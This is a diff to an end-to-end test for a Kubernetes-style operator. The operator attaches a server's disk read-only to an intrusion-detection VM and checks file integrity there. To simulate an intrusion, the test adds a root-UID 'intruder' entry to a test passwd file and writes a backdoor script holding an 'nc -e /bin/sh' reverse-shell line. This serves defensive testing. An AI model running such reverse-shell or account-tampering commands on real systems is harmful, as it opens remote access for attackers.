@@ -9,7 +9,8 @@
 import assert from 'node:assert/strict';
 import { existsSync, readdirSync } from 'node:fs';
 import { tmpdir } from 'node:os';
-import { diskSerialForVolume } from '../../src/builders/disk-inspection-cloud-init.ts';
+import { diskSerialForVolume, MOUNT_SCRIPT_PATH, REMOUNT_LOOP_LOG } from '../../src/builders/disk-inspection-cloud-init.ts';
+import { REMOUNT_INTERVAL_SECONDS } from '../../src/builders/disk-inspection.ts';
 import { blockGuestAssets, MODULES_FAILED_MARKER, waitForDiskBySerial } from '../../testenv/guest/block-guest.ts';
 import { monitoredServer, vmTemplate } from '../../testenv/fixtures/monitoredservers.ts';
 import { OperatorTestEnv, MS, VM, VMI } from '../../testenv/operator/operator-env.ts';
@@ -25,7 +26,32 @@ const NAME = 'db-1';
 const CLAIM = 'db-1-data';
 const SERIAL = diskSerialForVolume(NAME, 'data');
 const CONTENT = 'written by the server guest';
+/** The operator's default spec.diskInspection.mountPath, and the volume's directory under it. */
+const MOUNT = '/.serverfs/data';
 const log = (line: string) => process.stderr.write(`[e2e] ${line}\n`);
+
+/** How many times the operator's refresh loop has mounted the volume in the IDS guest so far. */
+async function refreshes(ids: RealGuest): Promise<number> {
+  const out = await ids.console.run(`grep -c 'volume data: mounted' ${REMOUNT_LOOP_LOG} 2>/dev/null || true`);
+  return Number(/^(\d+)/m.exec(out)?.[1] ?? 0);
+}
+
+/**
+ * Runs a checker line in the IDS guest once the refresh loop has mounted the volume again since
+ * `after` rounds (so it sees the server's disk as it is now); its (short) output is read twice and
+ * must agree (a garbled console read is read again).
+ */
+async function runChecker(ids: RealGuest, line: string, after: number): Promise<string> {
+  await waitFor(async () => (await refreshes(ids)) > after || undefined, { timeoutMs: 150_000, intervalMs: 2000, description: 'the next refresh of the server disk in the IDS guest' });
+  await ids.console.run(`{ ${line}; } > /root/check.out 2>&1`, 120_000);
+  return waitFor(
+    async () => {
+      const [a, b] = [await ids.console.run('cat /root/check.out'), await ids.console.run('cat /root/check.out')];
+      return a === b ? a : undefined;
+    },
+    { timeoutMs: 60_000, intervalMs: 100, description: 'two equal reads of the checker output' },
+  );
+}
 
 const claimImageDirs = () => readdirSync(tmpdir()).filter((d) => d.startsWith(`hs-pvc-${process.pid}-`));
 
@@ -41,7 +67,7 @@ describe('end to end on a real-guest node: a server disk hot-plugged into the ID
     const assets = blockGuestAssets();
     // Every VMI a real guest (with the block modules); the process mapper's pod stays a kwok pod:
     // this test is about disks.
-    nodes = new RealGuestNodes({ log, kernel: assets.kernel.vmlinuz, initrd: assets.initrd, podSelector: 'hyperspector.io/role=none' });
+    nodes = new RealGuestNodes({ log, kernel: assets.kernel.vmlinuz, initrd: assets.initrd, podSelector: 'hyperspector.io/role=none', cloudInit: true });
     backend = nodes.backend;
     env = await OperatorTestEnv.start(1, undefined, { guestBackend: backend, log });
     nodes.attach(env.cluster.kubeConfig, env.cluster.dir);
@@ -105,25 +131,67 @@ describe('end to end on a real-guest node: a server disk hot-plugged into the ID
     assert.equal(entry?.phase, 'Ready');
     assert.match(entry?.target ?? '', /^vd[a-z]$/);
 
-    // In the IDS guest: the disk with its serial, mounted ro,noload, shows the server's file.
+    // In the IDS guest: cloud-init (played by the test world) wrote the operator's mount script and
+    // ran its runcmd; the disk has its serial and is mounted ro,noload at <mountPath>/<volume>, re-mounted by the refresh loop; the server's file is there.
     await ids.waitForBoot();
     assert.ok(!ids.console.output.includes(MODULES_FAILED_MARKER), 'the block modules loaded in the IDS guest');
+    const cloudInit = await ids.cloudInit;
+    assert.ok(cloudInit, 'the IDS VMI has the operator’s cloud-init user data');
+    assert.ok(cloudInit.plan.files.some((f) => f.path === MOUNT_SCRIPT_PATH), `cloud-init writes ${MOUNT_SCRIPT_PATH}`);
+    assert.deepEqual(cloudInit.exitCodes.slice(-1), [0], `the runcmd script ran:\n${cloudInit.output}`);
     const found = await ids.console.run(waitForDiskBySerial(SERIAL, 60), 90_000);
     const dev = /@@DISK=(vd[a-z]+)/.exec(found)?.[1];
     assert.ok(dev, `a disk with serial ${SERIAL} in the IDS guest:\n${found}`);
     const visibleMs = Date.now() - applied;
     log(`apply → DiskAttached=True ${(attachedMs / 1000).toFixed(1)} s; apply → disk ${dev} (serial ${SERIAL}) visible in the IDS guest ${(visibleMs / 1000).toFixed(1)} s`);
-    const read = await ids.console.run(`blockdev --getro /dev/${dev}; mkdir -p /.serverfs/data && mount -t ext4 -o ro,noload /dev/${dev} /.serverfs/data && cat /.serverfs/data/hello.txt && grep ' /.serverfs/data ' /proc/mounts`, 60_000);
-    assert.match(read, new RegExp(`^1\\n${CONTENT}\\n/dev/${dev} /.serverfs/data ext4 ro,.*norecovery`), read);
+    // The test guest has neither systemd nor cron: the operator's runcmd started its refresh loop.
+    // runcmd mounted the disk if it was plugged by then; else the loop's first round does.
+    const mounted = await waitFor(
+      async () => {
+        const out = await ids.console.run(`grep ' ${MOUNT} ' /proc/mounts && blockdev --getro /dev/${dev} && cat ${MOUNT}/hello.txt`);
+        return out.includes(CONTENT) ? out : undefined;
+      },
+      { timeoutMs: 150_000, intervalMs: 2000, description: `the server's disk mounted at ${MOUNT} in the IDS guest by the operator's cloud-init` },
+    );
+    assert.match(mounted, new RegExp(`^/dev/${dev} ${MOUNT} ext4 ro,nosuid,nodev,noexec,.*norecovery.*\\n1\\n${CONTENT}\\n`), mounted);
+    assert.match(await ids.console.run(`ps | grep -c '[w]hile sleep ${REMOUNT_INTERVAL_SECONDS}; do ${MOUNT_SCRIPT_PATH} refresh'`), /^1\n/, 'one refresh loop runs');
     const writes = await ids.console.run(
-      `echo intruder > /.serverfs/data/evil.txt 2>&1; echo "@@fs=$?"; dd if=/dev/zero of=/dev/${dev} bs=4096 count=1 conv=notrunc 2>&1; echo "@@dev=$?"`,
+      `echo intruder > ${MOUNT}/evil.txt 2>&1; echo "@@fs=$?"; dd if=/dev/zero of=/dev/${dev} bs=4096 count=1 conv=notrunc 2>&1; echo "@@dev=$?"`,
       60_000,
     );
     assert.match(writes, /Read-only file system[\s\S]*@@fs=[1-9]/, writes);
     assert.match(writes, /@@dev=[1-9]/, writes);
 
+    // File integrity, as a checker in the IDS VM sees it (the test guest has no AIDE: md5 over the
+    // tree): the server changes a file, adds one and removes one; after the next refresh the checker
+    // reports exactly those three, and the server never saw an error.
+    const tree = await serverGuest.console.run(
+      "mkdir -p /srv/data/etc /srv/data/bin && printf 'root:x:0:0::/root:/bin/sh\\n' > /srv/data/etc/passwd && echo 127.0.0.1 localhost > /srv/data/etc/hosts && " +
+        'dd if=/dev/urandom of=/srv/data/bin/app bs=1024 count=256 2>/dev/null && sync && echo @@TREE',
+      60_000,
+    );
+    assert.match(tree, /@@TREE/, tree);
+    const baseline = await runChecker(ids, `( cd ${MOUNT} && find . -type f -exec md5sum {} \\; ) > /root/fim.db; wc -l < /root/fim.db`, await refreshes(ids));
+    assert.match(baseline, /^4\n/, `the checker's baseline holds the server's 4 files:\n${baseline}`);
+    const changedAt = Date.now();
+    const changed = await serverGuest.console.run(
+      "echo 'intruder:x:0:0::/root:/bin/sh' >> /srv/data/etc/passwd && printf '#!/bin/sh\\nnc -e /bin/sh 127.0.0.1 4444\\n' > /srv/data/bin/backdoor && rm /srv/data/etc/hosts && sync && echo @@CHANGED",
+      60_000,
+    );
+    assert.match(changed, /@@CHANGED/, changed);
+    const report = await runChecker(
+      ids,
+      `( cd ${MOUNT} && find . -type f -exec md5sum {} \\; ) > /root/fim.now; ` +
+        `awk 'NR==FNR { old[$2]=$1; next } { if (!($2 in old)) print "ADDED " $2; else if (old[$2] != $1) print "CHANGED " $2; delete old[$2] } END { for (f in old) print "REMOVED " f }' /root/fim.db /root/fim.now | sort`,
+      await refreshes(ids),
+    );
+    assert.equal(report, 'ADDED ./bin/backdoor\nCHANGED ./etc/passwd\nREMOVED ./etc/hosts\n', report);
+    log(`server change → reported by the checker in the IDS guest after the next refresh ${((Date.now() - changedAt) / 1000).toFixed(1)} s`);
+    const serverHealth = await serverGuest.console.run("echo more >> /srv/data/hello.txt && sync && echo @@WROTE; dmesg | grep -c -E 'I/O error|EXT4-fs error'", 60_000);
+    assert.match(serverHealth, /@@WROTE\n0\n/, `the server writes on, with no I/O or file system error:\n${serverHealth}`);
+
     // Removing the disk from the spec unplugs it from the IDS QEMU (the guest lets go of the mount first).
-    await ids.console.run('umount /.serverfs/data');
+    assert.match(await ids.console.run(`${MOUNT_SCRIPT_PATH} umount; echo "@@UMOUNT=$?"; grep -c ' ${MOUNT} ' /proc/mounts`), /@@UMOUNT=0\n0\n/);
     await env.mergePatch(MS, NS, NAME, { spec: { server: { disks: [] } } });
     const unplugStarted = Date.now();
     await waitFor(
